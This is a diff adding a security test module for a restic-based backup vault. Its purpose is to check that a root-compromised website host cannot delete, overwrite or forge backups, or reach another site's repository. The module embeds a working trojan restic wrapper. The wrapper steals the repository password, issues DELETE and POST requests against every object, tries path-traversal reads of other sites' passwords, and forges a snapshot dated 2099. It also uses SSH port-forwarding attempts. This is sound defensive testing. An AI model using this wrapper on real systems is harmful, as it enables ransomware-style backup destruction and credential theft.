@@ -1,0 +1,179 @@
+"""Root on the website host, with everything it holds, against the vault that backs it up.
+
+The intruder here has replaced restic by a program of theirs: it is started by the vault, gets the repository's address
+and password, and attacks while the tunnel stands. Then it lets the real restic do its work, so that nobody notices.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+
+from ungcuu.lab import Lab
+
+ATTACK = r"""#!/usr/bin/python3
+import json, os, subprocess, sys, urllib.request, urllib.error, base64
+if "backup" not in sys.argv:
+    os.execv("/usr/bin/restic.real", ["restic", *sys.argv[1:]])
+value = lambda name: next(a.split("=", 1)[1] for a in sys.argv if a.startswith(name + "="))
+password, where = open(value("--password-file")).read(), open(value("--repository-file")).read()
+credentials, address = where[len("rest:http://"):].rstrip("/").split("@")
+token = "Basic " + base64.b64encode(credentials.encode()).decode()
+loot = {"password": password, "answers": {}}
+
+def ask(method, path, body=None, accept="application/vnd.x.restic.rest.v2"):
+    head = {"Authorization": token, "Accept": accept}
+    request = urllib.request.Request(f"http://{address}{path}", method=method, data=body, headers=head)
+    try:
+        with urllib.request.urlopen(request, timeout=10) as answer:
+            return answer.status, answer.read()
+    except urllib.error.HTTPError as error:
+        return error.code, b""
+    except OSError as error:
+        return 0, str(error).encode()
+
+for kind in ("snapshots", "keys", "index", "data"):
+    names = [row["name"] for row in json.loads(ask("GET", f"/{kind}/")[1] or b"[]")]
+    loot["answers"][f"list {kind}"] = len(names)
+    for name in names:
+        loot["answers"][f"DELETE /{kind}/{name}"] = ask("DELETE", f"/{kind}/{name}")[0]
+        loot["answers"][f"POST /{kind}/{name}"] = ask("POST", f"/{kind}/{name}", b"junk")[0]
+for method, path in (("DELETE", "/config"), ("POST", "/config"), ("DELETE", "/"), ("POST", "/?create=true")):
+    loot["answers"][f"{method} {path}"] = ask(method, path, b"junk" if method == "POST" else None)[0]
+for path in ("/../web02/repository/config", "/..%2f..%2fweb02%2frepository%2fconfig",
+             "/data/../../../web02/repository/config", "/../../../../etc/ungcuu-vault/passwords/web02",
+             "/../ledger.json", "/%2e%2e/ledger.json"):
+    loot["answers"][f"read {path}"] = ask("GET", path)[0]
+    loot["answers"][f"write {path}"] = ask("POST", path, b"junk")[0]
+open("/root/loot.json", "w").write(json.dumps(loot))
+if os.path.exists("/root/forge"):
+    environment = dict(os.environ, RESTIC_PASSWORD=password, RESTIC_REPOSITORY=where)
+    forge = ["/usr/bin/restic.real", "--no-cache", "backup", "--time", "2099-01-01 00:00:00"]
+    forge += ["--host=web01", "/etc/issue"]
+    subprocess.run(forge, env=environment, check=True, stdout=subprocess.DEVNULL)
+again = [f"--password-file=/dev/stdin" if a.startswith("--password-file") else a for a in sys.argv[1:]]
+reader, writer = os.pipe()
+os.write(writer, where.encode()); os.close(writer); os.set_inheritable(reader, True)
+again = [f"--repository-file=/dev/fd/{reader}" if a.startswith("--repository-file") else a for a in again]
+done = subprocess.run(["/usr/bin/restic.real", *again], input=password.encode(), pass_fds=[reader])
+sys.exit(done.returncode)
+"""
+
+
+def run(lab: Lab, host: str, command: str, given: str | None = None) -> str:
+    """Run a shell command as root on a lab host."""
+    done = lab.exec(host, ["sh", "-c", command], given.encode() if given is not None else None)
+    assert done.returncode == 0, done.stderr.decode(errors="replace")
+    return done.stdout.decode()
+
+
+def vault(lab: Lab, *words: str) -> dict[str, Any]:
+    """Ask the vault's own command."""
+    answer: dict[str, Any] = json.loads(lab.exec("vault01", ["ungcuu-vault", *words]).stdout)
+    return answer
+
+
+def content(lab: Lab, point: str) -> str:
+    """Hash of every byte of a restore point, read on the vault."""
+    read = (
+        "cd /; setpriv --reuid=ungcuu-vault --regid=ungcuu-vault --clear-groups restic --no-cache --no-lock"
+        " -r /var/lib/ungcuu-vault/sites/web01/repository"
+        " --password-command 'echo '$(cat /etc/ungcuu-vault/passwords/web01)"
+        f" dump {point} / --archive tar | sha256sum"
+    )
+    return run(lab, "vault01", read).split()[0]
+
+
+@pytest.fixture(scope="module")
+def attacked(fresh: Callable[..., Lab], playbook: Callable[..., Any]) -> Iterator[tuple[Lab, dict[str, Any], str]]:
+    """A host that was backed up once, then taken over, then backed up again."""
+    lab = fresh("web01", "vault01")
+    done = playbook("backup", "web01")
+    assert done.returncode == 0, done.stdout[-3000:]
+    before = vault(lab, "choose", "web01")["point"]
+    # Another website's backups on the same vault: settings as of web01, a repository and password of its own.
+    run(lab, "vault01", "cd /etc/ungcuu-vault/sites && cp web01.json web02.json && ungcuu-vault prepare web02")
+    sealed = content(lab, before["id"])
+    run(
+        lab,
+        "web01",
+        "mv /usr/bin/restic /usr/bin/restic.real; cat > /usr/bin/restic; chmod 755 /usr/bin/restic",
+        ATTACK,
+    )
+    yield lab, before, sealed
+    run(lab, "web01", "mv /usr/bin/restic.real /usr/bin/restic; rm -f /root/forge")
+
+
+def test_root_on_the_host_can_not_touch_earlier_points(attacked: tuple[Lab, dict[str, Any], str]) -> None:
+    """Ransomware deletes the backups first. Seen failing with `--append-only` taken out of the server's command."""
+    lab, before, sealed = attacked
+    assert vault(lab, "backup", "web01")["outcome"] == "DONE"
+    loot = json.loads(run(lab, "web01", "cat /root/loot.json"))
+    answers = loot["answers"]
+    assert answers["list snapshots"] >= 1, "the attack must have reached the repository, or this proves nothing"
+    assert answers["list data"] >= 1
+    done = {what: code for what, code in answers.items() if what.startswith(("DELETE", "POST /")) and 200 <= code < 300}
+    assert {what for what in done if "create=true" not in what} == set()
+    assert content(lab, before["id"]) == sealed
+
+
+def test_root_on_the_host_can_not_reach_other_hosts_backups(attacked: tuple[Lab, dict[str, Any], str]) -> None:
+    """One taken-over website must not give away the others."""
+    lab, _, _ = attacked
+    answers = json.loads(run(lab, "web01", "cat /root/loot.json"))["answers"]
+    reached = {what for what, code in answers.items() if what.startswith(("read ", "write ")) and 200 <= code < 300}
+    assert reached == set()
+    theirs = json.loads(run(lab, "web01", "cat /root/loot.json"))["password"].strip()
+    assert theirs != run(lab, "vault01", "cat /etc/ungcuu-vault/passwords/web02").strip()
+
+
+def test_nothing_of_the_vault_is_left_to_find(attacked: tuple[Lab, dict[str, Any], str]) -> None:
+    """Between two backups the host holds no way in: no port, no password, no key of the vault."""
+    lab, _, _ = attacked
+    password = run(lab, "vault01", "cat /etc/ungcuu-vault/passwords/web01").strip()
+    run(lab, "web01", "rm -f /root/loot.json")
+    found = lab.exec(
+        "web01", ["grep", "-rlF", password, "/etc", "/root", "/var/lib", "/var/cache", "/tmp", "/run", "/home"]
+    )
+    assert found.stdout == b""
+    assert "18765" not in run(lab, "web01", "ss -Hltn")
+
+
+def test_forged_points_are_never_offered(attacked: tuple[Lab, dict[str, Any], str]) -> None:
+    """A point dated 2099 would be "the latest" for ever, and push the good ones out of the retention."""
+    lab, before, sealed = attacked
+    run(lab, "web01", "touch /root/forge")
+    answer = vault(lab, "backup", "web01")
+    assert answer["outcome"] == "NOT DONE"
+    assert "2 points arrived" in answer["reason"]
+    listed = vault(lab, "points", "web01")
+    assert listed["strangers"]
+    chosen = vault(lab, "choose", "web01")["point"]
+    assert chosen["time"] < "2099"
+    assert chosen["id"] in {point["id"] for point in listed["points"]}
+    tidied = vault(lab, "tidy", "web01")
+    assert tidied["outcome"] == "NOT DONE"
+    assert "no run made" in tidied["reason"]
+    assert content(lab, before["id"]) == sealed
+
+
+def test_vault_s_key_gives_no_shell_and_no_other_tunnel(attacked: tuple[Lab, dict[str, Any], str]) -> None:
+    """A stolen vault key must not open the websites wider than a backup needs."""
+    lab, _, _ = attacked
+    login = (
+        "setpriv --reuid=ungcuu-vault --regid=ungcuu-vault --clear-groups ssh -F none -o BatchMode=yes"
+        " -o IdentitiesOnly=yes -i /var/lib/ungcuu-vault/account/id_ed25519 -o HostKeyAlias=web01"
+        " -o UserKnownHostsFile=/etc/ungcuu-vault/known_hosts.d/web01 -o ExitOnForwardFailure=yes"
+    )
+    target = f"ungcuu-backup@{lab.address('web01')}"
+    shell = lab.exec("vault01", ["sh", "-c", f"cd /; {login} {target} id </dev/null"])
+    assert b"uid=" not in shell.stdout
+    for tunnel in ("-R 127.0.0.1:2222:127.0.0.1:22", "-R 0.0.0.0:18765:127.0.0.1:22"):
+        refused = lab.exec("vault01", ["sh", "-c", f"cd /; timeout 20 {login} {tunnel} {target} id </dev/null"])
+        assert refused.returncode != 0
+        assert b"forwarding failed" in refused.stderr, tunnel
+    asked = lab.exec("vault01", ["sh", "-c", f'cd /; echo \'{{"do":"swap"}}\' | {login} {target}'])
+    assert b"may not ask" in asked.stdout
